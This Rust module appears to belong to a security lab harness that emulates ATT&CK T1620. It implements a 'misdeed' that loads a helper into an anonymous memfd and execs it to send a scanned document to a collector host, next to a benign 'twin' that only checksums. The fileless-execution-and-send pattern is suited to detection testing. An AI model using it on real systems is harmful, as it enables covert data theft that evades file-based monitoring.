//! A program that no path leads to sends a document. ATT&CK T1620.
//!
//! The scanner copies the helper into a `memfd`, puts the document into another one as standard
//! input, and becomes that program by `execveat`: what sends has no file behind it. The twin becomes
//! the installed helper, which computes a checksum and sends nothing.

use std::ffi::{CString, OsString};
use std::fs::File;
use std::io::{self, Seek as _, Write as _};
use std::os::fd::OwnedFd;
use std::os::unix::process::CommandExt as _;
use std::path::Path;
use std::process::Command;

use rustix::fs::MemfdFlags;

use super::{Conduct, Loot, Trouble, sibling};
use crate::configuration::Configuration;
use crate::document::{Sort, Taker};
use crate::lab::Lab;
use crate::scanner::Tally;

/// Becomes a program in memory.
#[derive(Debug)]
struct Misdeed(Loot);

pub(crate) fn misdeed(lab: Lab) -> Box<dyn Conduct> {
    Box::new(Misdeed(Loot::new(lab, Sort::Document)))
}

impl Conduct for Misdeed {
    fn met(&mut self, path: &Path, content: &[u8]) {
        self.0.offer(path, content);
    }

    fn scanned(&mut self, tally: Tally) -> Result<(), Trouble> {
        let collector = self.0.lab.collector()?;
        let image = in_memory(&std::fs::read(sibling("specimen-helper")?)?)?;
        let document = in_memory(&self.0.document()?.content)?;
        rustix::stdio::dup2_stdin(&document).map_err(io::Error::from)?;
        let (port, code) = (collector.address.port().to_string(), tally.exit_code().to_string());
        let arguments = ["helper", "send", &collector.host, &port, &code];
        let arguments = arguments.into_iter().map(CString::new).collect::<Result<Vec<_>, _>>();
        let arguments = arguments.map_err(io::Error::from)?;
        Err(Trouble::Failed(watchglass_sys::image::execute(&image, &arguments, &environment())))
    }
}

/// Becomes the installed helper.
#[derive(Debug)]
struct Twin(Taker);

pub(crate) fn twin(configuration: Configuration) -> Box<dyn Conduct> {
    Box::new(Twin(Taker::new(configuration.parameters.pick, Sort::Document)))
}

impl Conduct for Twin {
    fn met(&mut self, path: &Path, content: &[u8]) {
        self.0.offer(path, content);
    }

    fn scanned(&mut self, tally: Tally) -> Result<(), Trouble> {
        let Some(document) = self.0.document() else { return Ok(()) };
        let mut command = Command::new(sibling("specimen-helper")?);
        command.args(["checksum", &tally.exit_code().to_string()]);
        let error = command.stdin(File::open(&document.path)?).exec();
        Err(Trouble::Failed(error))
    }
}

/// The environment as it is.
fn environment() -> Vec<CString> {
    let pair = |(name, value): (OsString, OsString)| {
        let text = [name.as_encoded_bytes(), b"=", value.as_encoded_bytes()].concat();
        CString::new(text).ok()
    };
    std::env::vars_os().filter_map(pair).collect()
}

/// A file in memory that closes when another program takes over, which standard input does not.
fn in_memory(bytes: &[u8]) -> io::Result<OwnedFd> {
    let mut file = File::from(rustix::fs::memfd_create("cache", MemfdFlags::CLOEXEC)?);
    file.write_all(bytes)?;
    file.rewind()?;
    Ok(file.into())
}
